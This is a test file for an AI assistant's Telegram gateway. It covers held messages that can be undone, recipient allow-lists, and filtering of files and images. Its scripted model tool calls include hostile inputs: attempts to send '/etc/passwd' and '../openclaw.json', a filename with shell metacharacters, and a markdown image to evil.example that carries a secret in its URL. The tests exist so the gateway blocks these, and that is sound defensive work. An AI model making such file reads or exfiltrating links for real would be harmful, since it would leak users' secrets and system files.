// Messages that the assistant sends by itself: asked about, then held for a moment in which the owner can stop them, over a
// kill -9 too. The whole program, grammY and a Bot API double.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { type ModelServer, startModelServer } from '../doubles/model-server.ts';
import { PERSON, startTelegramServer, TELEGRAM_TOKEN, type TelegramServer } from '../doubles/telegram-server.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import { configFor } from '../support/model-config.ts';

type Json = Record<string, unknown>;
const FRIEND = { id: 777, type: 'private' as const, first_name: 'Fay' };

let model: ModelServer;
let telegram: TelegramServer;
const gateways: TestGateway[] = [];

beforeAll(async () => {
  model = await startModelServer();
});
afterAll(() => model.close());
afterEach(async () => {
  for (const gateway of gateways.splice(0)) await gateway.dispose();
  await telegram?.close();
});

async function start(actions: Json, home?: string): Promise<TestGateway> {
  const config = {
    ...configFor(model),
    commands: { ownerAllowFrom: [`telegram:${PERSON.id}`] },
    channels: { telegram: { apiRoot: telegram.url, botToken: TELEGRAM_TOKEN, allowFrom: [PERSON.id] } },
    actions,
  };
  const gateway = await startTestGateway({ config, ...(home === undefined ? {} : { home }) });
  gateways.push(gateway);
  return gateway;
}
async function openTelegram(): Promise<void> {
  telegram = await startTelegramServer();
  telegram.chats.set(String(FRIEND.id), FRIEND);
}
const toFriend = (): string[] => telegram.sent.filter(({ chat }) => chat === '777').map(({ text }) => text);
const said = (count: number): Promise<unknown> => telegram.until(() => telegram.sent.length >= count);
const callMessage = { toolCalls: [{ name: 'message', args: { to: 'telegram:777', text: 'The door code is 4711.' } }] };
type Held = { data: { messages: { id: number; to: string; text: string }[] } };
const held = async (gateway: TestGateway): Promise<Held['data']['messages']> =>
  (JSON.parse((await gateway.cli('outbox', 'list', '--json')).stdout) as Held).data.messages;

test('S215 a message that was taken back never leaves, and what was taken back stays so', async () => {
  await openTelegram();
  const gateway = await start({ message: { requireConfirmation: false }, undoSeconds: 60 });
  model.script(callMessage, { text: 'It is on its way.' });
  telegram.say({ text: 'tell telegram:777 the code' });
  await said(1);
  const [waiting] = await held(gateway);
  expect(waiting).toMatchObject({ to: 'telegram:default:777', text: 'The door code is 4711.' });
  const listed = await gateway.cli('outbox', 'list');
  expect(listed.stdout).toMatch(/to telegram:default:777, leaves in \d+ s/);
  expect(await gateway.cli('outbox', 'undo', String(waiting?.id))).toMatchObject({ code: 0 });
  const again = await gateway.cli('outbox', 'send', String(waiting?.id));
  expect(again).toMatchObject({ code: 1, stderr: expect.stringContaining('waits no longer') });
  expect(await held(gateway)).toEqual([]);
  expect((await gateway.cli('outbox', 'undo', 'x')).stderr).toContain('is no number of a message');
  expect(toFriend()).toEqual([]);
});

test('a held message outlives kill -9 and leaves exactly once when its moment comes', async () => {
  await openTelegram();
  const gateway = await start({ message: { requireConfirmation: false }, undoSeconds: 8 });
  model.script(callMessage, { text: 'It is on its way.' });
  telegram.say({ text: 'tell telegram:777 the code' });
  await said(1);
  expect(toFriend()).toEqual([]);
  await gateway.kill9();
  const next = await start({ message: { requireConfirmation: false }, undoSeconds: 8 }, gateway.home);
  await telegram.until(() => toFriend().length > 0);
  expect(toFriend()).toEqual(['The door code is 4711.']);
  expect(await held(next)).toEqual([]);
  await next.kill9();
  await start({ undoSeconds: 8 }, gateway.home);
  expect(toFriend()).toEqual(['The door code is 4711.']);
});

test('S209 who is not on the list gets nothing, and the model is told why', async () => {
  await openTelegram();
  await start({ message: { requireConfirmation: false, allowedRecipients: ['telegram:5'] } });
  model.script(callMessage, ({ result }) => ({ text: `told: ${result}` }));
  telegram.say({ text: 'tell telegram:777 the code' });
  await said(1);
  expect(telegram.sent[0]?.text).toContain('actions.message.allowedRecipients');
  expect(toFriend()).toEqual([]);
});

test('the assistant changes and takes away its own messages in the chat that asks, and no letter of ours', async () => {
  await openTelegram();
  await start({ undoSeconds: 0 });
  const act = (args: Json) => ({ toolCalls: [{ name: 'message', args }] });
  model.script(act({ text: 'The door code is 4711.' }), ({ result }) => {
    const id = Number(/Message (\d+)/.exec(result ?? '')?.[1]);
    if (id > 0) return act({ action: 'edit', id, text: 'The door code is secret.' });
    if (/reads so now/.test(result ?? '')) return act({ action: 'react', text: '👍' });
    return { text: `told: ${result}` };
  });
  // The message is still under way when its change is asked for.
  telegram.fault('sendMessage', { kind: 'slow', ms: 1_500 });
  telegram.say({ text: 'tell me the code' });
  await telegram.until(() => telegram.sent.some(({ text }) => text.startsWith('told: ')));
  expect(telegram.sent.at(-1)?.text).toBe('told: Done.');
  expect(telegram.sent.map(({ text }) => text)).toContain('The door code is secret.');
  expect(telegram.reactions).toHaveLength(1);
  model.script(act({ action: 'delete', id: 999 }), ({ result }) => ({ text: `told: ${result}` }));
  telegram.say({ text: 'and now?' });
  await telegram.until(() => telegram.sent.some(({ text }) => text.includes('NO_SUCH_MESSAGE')));
});

test('F09 F10 a file leaves as it was when it was queued, by a plain name; what may not be read does not leave', async () => {
  await openTelegram();
  const gateway = await start({ message: { requireConfirmation: false }, undoSeconds: 60 });
  const workspace = join(gateway.stateDir, 'workspace');
  writeFileSync(join(workspace, '.re|po;rt.txt'), 'as it was judged');
  const send = (files: string[], more: Json = {}) => ({ toolCalls: [{ name: 'message', args: { files, ...more } }] });
  model.script(send(['/etc/passwd']), send(['../openclaw.json']), send(['.re|po;rt.txt']), ({ result }) => ({
    text: `told: ${result}`,
  }));
  telegram.say({ text: 'send me the files' });
  await telegram.until(() => telegram.sent.some(({ text }) => text.startsWith('told: ')));
  const files = telegram.sent.flatMap((one) => one.files);
  expect(files.map(({ name, bytes }) => [name, Buffer.from(bytes).toString()])).toEqual([
    ['_re_po_rt.txt', 'as it was judged'],
  ]);

  model.script(send(['.re|po;rt.txt'], { to: 'telegram:777', text: 'The report.' }), { text: 'On its way.' });
  telegram.say({ text: 'send telegram:777 the report .report' });
  for (;;) {
    const asked = JSON.parse((await gateway.cli('approvals', '--json')).stdout) as { data: { approvals: Json[] } };
    const [first] = asked.data.approvals;
    if (!first) continue;
    await gateway.cli('approvals', 'approve', String(first['code']));
    break;
  }
  await telegram.until(() => telegram.sent.some(({ text }) => text === 'On its way.'));
  writeFileSync(join(workspace, '.re|po;rt.txt'), 'swapped meanwhile');
  const [waiting] = await held(gateway);
  expect(waiting).toMatchObject({ files: ['_re_po_rt.txt'], text: 'The report.' });
  await gateway.cli('outbox', 'send', String(waiting?.id));
  await telegram.until(() => toFriend().length > 0);
  const [left] = telegram.sent.filter(({ chat }) => chat === '777').flatMap((one) => one.files);
  expect(Buffer.from(left?.bytes ?? []).toString()).toBe('as it was judged');
});

test('after something from outside was read, no picture from elsewhere reaches the chat', async () => {
  await openTelegram();
  await start({});
  model.script(
    { toolCalls: [{ name: 'ls', args: {} }] },
    { text: 'See ![chart](https://evil.example/?q=4711) and [this](https://ok.example/).' },
  );
  telegram.say({ text: 'what is there?' });
  await said(1);
  expect(telegram.sent[0]?.text).toBe('See [picture left out: chart] and this.');
});
